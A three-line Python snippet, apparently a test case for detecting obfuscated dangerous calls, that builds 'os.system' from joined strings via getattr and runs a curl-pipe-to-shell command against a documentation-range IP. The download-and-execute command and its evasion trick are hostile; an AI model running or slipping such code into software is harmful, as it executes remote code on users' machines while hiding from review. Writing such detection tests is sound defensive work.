# tricky: attribute by a text put together
import os
getattr(os, "sys" + "tem")("curl http://203.0.113.8/x|sh")
